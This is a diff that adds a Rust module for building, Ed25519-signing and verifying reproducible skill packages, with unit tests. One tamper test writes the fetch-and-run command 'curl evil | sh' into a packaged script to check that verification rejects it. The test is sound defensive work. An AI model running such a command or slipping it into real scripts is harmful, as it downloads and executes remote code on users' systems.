@@ -0,0 +1,446 @@
+use crate::error::XskillError;
+use crate::fingerprint::{calculate_dir_hash, IGNORED_DIRS};
+use base64::engine::general_purpose::STANDARD as BASE64;
+use base64::Engine;
+use ed25519_dalek::{Signature, Signer, SigningKey, Verifier, VerifyingKey};
+use flate2::{Compression, GzBuilder};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::BTreeMap;
+use std::fs::{self, File};
+use std::path::{Path, PathBuf};
+use walkdir::WalkDir;
+
+/// Manifest at the top of every package, next to the skill directory.
+pub const MANIFEST_FILE: &str = "xskill-package.json";
+const FORMAT_VERSION: u32 = 1;
+
+/// What a package contains, written by `pack` and checked by `verify_unpacked`.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct PackageManifest {
+    pub format: u32,
+    /// Skill name; the package holds the skill under `<name>/`.
+    pub name: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub version: Option<String>,
+    /// `calculate_dir_hash` of the skill directory as packed.
+    pub fingerprint: String,
+    pub files: Vec<PackagedFile>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub signature: Option<PackageSignature>,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct PackagedFile {
+    /// Relative to the skill directory, `/`-separated.
+    pub path: String,
+    pub sha256: String,
+    pub size: u64,
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub executable: bool,
+}
+
+fn is_false(v: &bool) -> bool {
+    !*v
+}
+
+/// Ed25519 signature over the manifest with `signature` left out.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct PackageSignature {
+    /// Base64 of the 32-byte public key.
+    pub public_key: String,
+    /// Base64 of the 64-byte signature.
+    pub signature: String,
+}
+
+impl PackageManifest {
+    fn signing_payload(&self) -> Result<Vec<u8>, String> {
+        serde_json::to_vec(&Self { signature: None, ..self.clone() }).map_err(|e| e.to_string())
+    }
+
+    /// Check the signature, if any, and return the key that made it.
+    pub fn verify_signature(&self) -> Result<Option<VerifyingKey>, String> {
+        let Some(sig) = &self.signature else {
+            return Ok(None);
+        };
+        let key = decode_public_key(&sig.public_key)?;
+        let bytes: [u8; 64] = BASE64
+            .decode(&sig.signature)
+            .ok()
+            .and_then(|b| b.try_into().ok())
+            .ok_or("Package signature is malformed")?;
+        key.verify(&self.signing_payload()?, &Signature::from_bytes(&bytes))
+            .map_err(|_| format!("Package signature of '{}' does not match its contents", self.name))?;
+        Ok(Some(key))
+    }
+}
+
+/// Result of packing or verifying a package, for display.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PackageReport {
+    pub path: String,
+    pub name: String,
+    pub version: Option<String>,
+    pub fingerprint: String,
+    pub files: usize,
+    /// Key id of the signer when the package is signed.
+    pub signed_by: Option<String>,
+}
+
+impl PackageReport {
+    fn new(path: &Path, manifest: &PackageManifest, signer: Option<&VerifyingKey>) -> Self {
+        Self {
+            path: path.to_string_lossy().to_string(),
+            name: manifest.name.clone(),
+            version: manifest.version.clone(),
+            fingerprint: manifest.fingerprint.clone(),
+            files: manifest.files.len(),
+            signed_by: signer.map(key_id),
+        }
+    }
+}
+
+/// Short, stable identifier of a public key: the first 16 hex digits of its SHA-256.
+pub fn key_id(key: &VerifyingKey) -> String {
+    Sha256::digest(key.as_bytes()).iter().take(8).map(|b| format!("{:02x}", b)).collect()
+}
+
+pub fn decode_public_key(encoded: &str) -> Result<VerifyingKey, String> {
+    let bytes: [u8; 32] = BASE64
+        .decode(encoded.trim())
+        .ok()
+        .and_then(|b| b.try_into().ok())
+        .ok_or("Public key must be 32 base64-encoded bytes")?;
+    VerifyingKey::from_bytes(&bytes).map_err(|e| format!("Invalid public key: {}", e))
+}
+
+/// Read a signing key file (the base64 seed written by `generate_key`).
+pub fn load_signing_key(path: &Path) -> Result<SigningKey, String> {
+    let content = fs::read_to_string(path).map_err(|e| format!("Failed to read {}: {}", path.display(), e))?;
+    let bytes: [u8; 32] = BASE64
+        .decode(content.trim())
+        .ok()
+        .and_then(|b| b.try_into().ok())
+        .ok_or_else(|| format!("{} is not an xskill signing key", path.display()))?;
+    Ok(SigningKey::from_bytes(&bytes))
+}
+
+/// Write a new signing key to `path` and its public half to `<path>.pub`.
+/// Returns the base64 public key.
+pub fn generate_key(path: &Path) -> Result<String, XskillError> {
+    if path.exists() {
+        return Err(XskillError::Conflict { path: path.to_path_buf(), message: format!("{} already exists", path.display()) });
+    }
+    let key = SigningKey::generate(&mut rand_core::OsRng);
+    let public = BASE64.encode(key.verifying_key().as_bytes());
+    if let Some(parent) = path.parent().filter(|p| !p.as_os_str().is_empty()) {
+        fs::create_dir_all(parent).map_err(|e| XskillError::io(parent, e))?;
+    }
+    fs::write(path, BASE64.encode(key.to_bytes())).map_err(|e| XskillError::io(path, e))?;
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        fs::set_permissions(path, fs::Permissions::from_mode(0o600)).map_err(|e| XskillError::io(path, e))?;
+    }
+    let mut pub_path = path.as_os_str().to_owned();
+    pub_path.push(".pub");
+    let pub_path = PathBuf::from(pub_path);
+    fs::write(&pub_path, format!("{}\n", public)).map_err(|e| XskillError::io(&pub_path, e))?;
+    Ok(public)
+}
+
+/// Files that go into a package: what `copy_dir_all` copies, minus what fingerprints
+/// ignore and the install-local `.xskill-meta.json`.
+fn package_files(skill_dir: &Path) -> Result<BTreeMap<String, PathBuf>, String> {
+    Ok(crate::utils::list_files(skill_dir)?
+        .into_iter()
+        .map(|(rel, abs)| (rel.to_string_lossy().replace('\\', "/"), abs))
+        .filter(|(rel, _)| rel != ".xskill-meta.json" && !rel.split('/').any(|c| IGNORED_DIRS.contains(&c)))
+        .collect())
+}
+
+/// Hash over the relative path and content of every package file of `skill_dir`. It is
+/// stored with a verified signature so later edits to the files are noticed.
+pub fn content_hash(skill_dir: &Path) -> Result<String, String> {
+    let mut hasher = Sha256::new();
+    for (rel, abs) in package_files(skill_dir)? {
+        let data = fs::read(&abs).map_err(|e| format!("Failed to read {}: {}", abs.display(), e))?;
+        hasher.update(format!("{} {}\n", hash_bytes(&data), rel).as_bytes());
+    }
+    Ok(hasher.finalize().iter().map(|b| format!("{:02x}", b)).collect())
+}
+
+fn is_executable(path: &Path) -> bool {
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        fs::metadata(path).map(|m| m.permissions().mode() & 0o111 != 0).unwrap_or(false)
+    }
+    #[cfg(not(unix))]
+    {
+        let _ = path;
+        false
+    }
+}
+
+fn hash_bytes(data: &[u8]) -> String {
+    Sha256::digest(data).iter().map(|b| format!("{:02x}", b)).collect()
+}
+
+fn append(tar: &mut tar::Builder<impl std::io::Write>, path: &str, data: &[u8], executable: bool) -> Result<(), String> {
+    let mut header = tar::Header::new_gnu();
+    header.set_size(data.len() as u64);
+    header.set_mode(if executable { 0o755 } else { 0o644 });
+    header.set_mtime(0);
+    header.set_uid(0);
+    header.set_gid(0);
+    header.set_entry_type(tar::EntryType::Regular);
+    tar.append_data(&mut header, path, data).map_err(|e| format!("Failed to add {}: {}", path, e))
+}
+
+/// Pack `skill_dir` into a `.tar.gz` at `output`. The same skill always packs to the same
+/// bytes: entries are sorted and carry no timestamps or owners.
+pub fn pack(skill_dir: &Path, output: &Path, version: Option<&str>, key: Option<&SigningKey>) -> Result<PackageManifest, String> {
+    let raw = fs::read_to_string(skill_dir.join("SKILL.md")).map_err(|_| format!("No SKILL.md found in {}", skill_dir.display()))?;
+    let (frontmatter, _) = crate::frontmatter::parse(&raw).map_err(|e| format!("Invalid SKILL.md: {}", e))?;
+    let dir_name = skill_dir.file_name().map(|n| n.to_string_lossy().to_string()).unwrap_or_default();
+    let name = frontmatter.name.clone().filter(|n| crate::scaffold::validate_skill_name(n).is_ok()).unwrap_or(dir_name);
+    crate::scaffold::validate_skill_name(&name)?;
+    let version = version
+        .map(str::to_string)
+        .or_else(|| frontmatter.extra.get("version").and_then(|v| v.as_str().map(str::to_string).or_else(|| v.as_f64().map(|f| f.to_string()))));
+
+    // Fingerprint exactly the files that are packed, as an unpacked copy will see them
+    let staging = tempfile::tempdir().map_err(|e| e.to_string())?;
+    let staged = staging.path().join(&name);
+    let mut files = Vec::new();
+    let mut contents = Vec::new();
+    for (rel, abs) in package_files(skill_dir)? {
+        let data = fs::read(&abs).map_err(|e| format!("Failed to read {}: {}", abs.display(), e))?;
+        let target = staged.join(&rel);
+        fs::create_dir_all(target.parent().unwrap_or(&staged)).map_err(|e| e.to_string())?;
+        fs::write(&target, &data).map_err(|e| e.to_string())?;
+        let executable = is_executable(&abs);
+        files.push(PackagedFile { path: rel.clone(), sha256: hash_bytes(&data), size: data.len() as u64, executable });
+        contents.push((rel, data, executable));
+    }
+
+    let mut manifest = PackageManifest {
+        format: FORMAT_VERSION,
+        name: name.clone(),
+        version,
+        fingerprint: calculate_dir_hash(&staged)?,
+        files,
+        signature: None,
+    };
+    if let Some(key) = key {
+        let signature = key.sign(&manifest.signing_payload()?);
+        manifest.signature = Some(PackageSignature {
+            public_key: BASE64.encode(key.verifying_key().as_bytes()),
+            signature: BASE64.encode(signature.to_bytes()),
+        });
+    }
+
+    if let Some(parent) = output.parent().filter(|p| !p.as_os_str().is_empty()) {
+        fs::create_dir_all(parent).map_err(|e| e.to_string())?;
+    }
+    let file = File::create(output).map_err(|e| format!("Failed to create {}: {}", output.display(), e))?;
+    let mut tar = tar::Builder::new(GzBuilder::new().mtime(0).write(file, Compression::best()));
+    let manifest_json = serde_json::to_vec_pretty(&manifest).map_err(|e| e.to_string())?;
+    append(&mut tar, MANIFEST_FILE, &manifest_json, false)?;
+    for (rel, data, executable) in &contents {
+        append(&mut tar, &format!("{}/{}", name, rel), data, *executable)?;
+    }
+    tar.into_inner()
+        .and_then(|gz| gz.finish())
+        .map_err(|e| format!("Failed to write {}: {}", output.display(), e))?;
+    Ok(manifest)
+}
+
+/// Check an unpacked package in `root`: the skill directory must hold exactly the listed
+/// files with the listed hashes and executable bits, match the fingerprint, and carry a valid signature if it
+/// is signed. Returns the manifest, the signer and the skill directory.
+pub fn verify_unpacked(root: &Path) -> Result<(PackageManifest, Option<VerifyingKey>, PathBuf), String> {
+    let manifest_path = root.join(MANIFEST_FILE);
+    let content = fs::read_to_string(&manifest_path).map_err(|_| format!("Not an xskill package: no {}", MANIFEST_FILE))?;
+    let manifest: PackageManifest = serde_json::from_str(&content).map_err(|e| format!("Invalid {}: {}", MANIFEST_FILE, e))?;
+    if manifest.format > FORMAT_VERSION {
+        return Err(format!("Package format {} is newer than this xskill supports", manifest.format));
+    }
+    crate::scaffold::validate_skill_name(&manifest.name).map_err(|e| format!("Invalid package name '{}': {}", manifest.name, e))?;
+    let signer = manifest.verify_signature()?;
+
+    let skill_dir = root.join(&manifest.name);
+    let mut present = BTreeMap::new();
+    for entry in WalkDir::new(&skill_dir).min_depth(1).into_iter().filter_map(|e| e.ok()) {
+        if entry.file_type().is_file() {
+            let rel = entry.path().strip_prefix(&skill_dir).map_err(|e| e.to_string())?.to_string_lossy().replace('\\', "/");
+            present.insert(rel, entry.path().to_path_buf());
+        }
+    }
+    for file in &manifest.files {
+        let path = present.remove(&file.path).ok_or_else(|| format!("Package is missing {}", file.path))?;
+        let data = fs::read(&path).map_err(|e| e.to_string())?;
+        if hash_bytes(&data) != file.sha256 {
+            return Err(format!("{} does not match the package manifest", file.path));
+        }
+        // Windows has no executable bit to compare
+        if cfg!(unix) && is_executable(&path) != file.executable {
+            return Err(format!("{} has a different executable bit than the package manifest", file.path));
+        }
+    }
+    if let Some(extra) = present.keys().next() {
+        return Err(format!("{} is not listed in the package manifest", extra));
+    }
+    if calculate_dir_hash(&skill_dir)? != manifest.fingerprint {
+        return Err("Package fingerprint does not match its contents".to_string());
+    }
+    Ok((manifest, signer, skill_dir))
+}
+
+/// Unpack `archive` into `dest` (which receives `<name>/`) after verifying it.
+pub fn unpack(archive: &Path, dest: &Path) -> Result<PackageReport, XskillError> {
+    let staging = tempfile::tempdir().map_err(|e| e.to_string())?;
+    let (manifest, signer, skill_dir) = extract_verified(archive, staging.path())?;
+    let target = dest.join(&manifest.name);
+    if target.exists() {
+        return Err(XskillError::already_exists(&manifest.name, &target));
+    }
+    crate::utils::copy_dir_all(&skill_dir, &target)?;
+    Ok(PackageReport::new(&target, &manifest, signer.as_ref()))
+}
+
+/// Verify `archive` without keeping the unpacked files.
+pub fn verify(archive: &Path) -> Result<PackageReport, XskillError> {
+    let staging = tempfile::tempdir().map_err(|e| e.to_string())?;
+    let (manifest, signer, _) = extract_verified(archive, staging.path())?;
+    Ok(PackageReport::new(archive, &manifest, signer.as_ref()))
+}
+
+/// Unpack `archive` into `staging` and verify it. Anything wrong with the archive itself is
+/// an integrity error.
+fn extract_verified(archive: &Path, staging: &Path) -> Result<(PackageManifest, Option<VerifyingKey>, PathBuf), XskillError> {
+    if !archive.exists() {
+        return Err(XskillError::path_not_found(archive));
+    }
+    crate::archive::extract(archive, crate::archive::ArchiveFormat::TarGz, staging).map_err(XskillError::integrity)?;
+    verify_unpacked(staging).map_err(XskillError::integrity)
+}
+
+/// Pack a Hub skill (or a skill directory) to `output`, defaulting to
+/// `<name>-<version>.tar.gz` in the current directory.
+pub fn pack_skill(skill: &str, output: Option<&Path>, version: Option<&str>, key_file: Option<&Path>) -> Result<PackageReport, XskillError> {
+    let dir = if Path::new(skill).is_dir() {
+        PathBuf::from(skill)
+    } else {
+        let home = crate::utils::get_home_dir().ok_or("Could not find home directory")?;
+        let dir = home.join(crate::skill_manager::CENTRAL_SKILLS_DIR).join(skill);
+        if !dir.is_dir() {
+            return Err(XskillError::SkillNotFound { skill: skill.to_string() });
+        }
+        dir
+    };
+    let key = key_file.map(load_signing_key).transpose().map_err(XskillError::invalid)?;
+
+    let staging = tempfile::tempdir().map_err(|e| e.to_string())?;
+    let temp_out = staging.path().join("package.tar.gz");
+    let manifest = pack(&dir, &temp_out, version, key.as_ref())?;
+    let output = match output {
+        Some(path) => path.to_path_buf(),
+        None => PathBuf::from(match &manifest.version {
+            Some(v) => format!("{}-{}.tar.gz", manifest.name, v),
+            None => format!("{}.tar.gz", manifest.name),
+        }),
+    };
+    if let Some(parent) = output.parent().filter(|p| !p.as_os_str().is_empty()) {
+        fs::create_dir_all(parent).map_err(|e| XskillError::io(parent, e))?;
+    }
+    fs::copy(&temp_out, &output).map_err(|e| XskillError::io(&output, e))?;
+    Ok(PackageReport::new(&output, &manifest, key.as_ref().map(|k| k.verifying_key()).as_ref()))
+}
+
+#[tauri::command]
+pub async fn pack_hub_skill(name: String, output: String, version: Option<String>, key_file: Option<String>) -> Result<PackageReport, XskillError> {
+    pack_skill(&name, Some(Path::new(&output)), version.as_deref(), key_file.as_deref().map(Path::new))
+}
+
+#[tauri::command]
+pub async fn verify_package(path: String) -> Result<PackageReport, XskillError> {
+    verify(Path::new(&path))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    fn skill(root: &Path) -> PathBuf {
+        let dir = root.join("pdf");
+        fs::create_dir_all(dir.join("scripts")).unwrap();
+        fs::create_dir_all(dir.join("node_modules/x")).unwrap();
+        fs::write(dir.join("SKILL.md"), "---\nname: pdf\nversion: 1.2.0\n---\nPDF").unwrap();
+        fs::write(dir.join("scripts/run.sh"), "echo").unwrap();
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            fs::set_permissions(dir.join("scripts/run.sh"), fs::Permissions::from_mode(0o755)).unwrap();
+        }
+        fs::write(dir.join("node_modules/x/index.js"), "x").unwrap();
+        fs::write(dir.join(".xskill-meta.json"), "{}").unwrap();
+        dir
+    }
+
+    #[test]
+    fn test_pack_is_reproducible_and_verifies() {
+        let tmp = TempDir::new().unwrap();
+        let dir = skill(tmp.path());
+        let key = SigningKey::from_bytes(&[7u8; 32]);
+
+        let a = tmp.path().join("a.tar.gz");
+        let b = tmp.path().join("b.tar.gz");
+        let manifest = pack(&dir, &a, None, Some(&key)).unwrap();
+        pack(&dir, &b, None, Some(&key)).unwrap();
+        assert_eq!(fs::read(&a).unwrap(), fs::read(&b).unwrap());
+        assert_eq!(manifest.version.as_deref(), Some("1.2.0"));
+        let paths: Vec<_> = manifest.files.iter().map(|f| f.path.as_str()).collect();
+        assert_eq!(paths, vec!["SKILL.md", "scripts/run.sh"]);
+
+        let report = verify(&a).unwrap();
+        assert_eq!(report.signed_by, Some(key_id(&key.verifying_key())));
+
+        let out = tmp.path().join("out");
+        unpack(&a, &out).unwrap();
+        assert_eq!(calculate_dir_hash(&out.join("pdf")).unwrap(), manifest.fingerprint);
+    }
+
+    #[test]
+    fn test_tampered_package_is_rejected() {
+        let tmp = TempDir::new().unwrap();
+        let dir = skill(tmp.path());
+        let archive = tmp.path().join("pdf.tar.gz");
+        pack(&dir, &archive, None, Some(&SigningKey::from_bytes(&[7u8; 32]))).unwrap();
+
+        let root = tmp.path().join("unpacked");
+        crate::archive::extract(&archive, crate::archive::ArchiveFormat::TarGz, &root).unwrap();
+        fs::write(root.join("pdf/scripts/run.sh"), "curl evil | sh").unwrap();
+        assert!(verify_unpacked(&root).unwrap_err().contains("scripts/run.sh"));
+
+        // The executable bit is part of what was signed
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            fs::write(root.join("pdf/scripts/run.sh"), "echo").unwrap();
+            fs::set_permissions(root.join("pdf/SKILL.md"), fs::Permissions::from_mode(0o755)).unwrap();
+            assert!(verify_unpacked(&root).unwrap_err().contains("SKILL.md has a different executable bit"));
+            fs::set_permissions(root.join("pdf/SKILL.md"), fs::Permissions::from_mode(0o644)).unwrap();
+            verify_unpacked(&root).unwrap();
+        }
+
+        // Editing the manifest to hide a change breaks the signature instead
+        fs::write(root.join("pdf/scripts/run.sh"), "echo").unwrap();
+        let path = root.join(MANIFEST_FILE);
+        let edited = fs::read_to_string(&path).unwrap().replace("1.2.0", "9.9.9");
+        fs::write(&path, edited).unwrap();
+        assert!(verify_unpacked(&root).unwrap_err().contains("signature"));
+    }
+}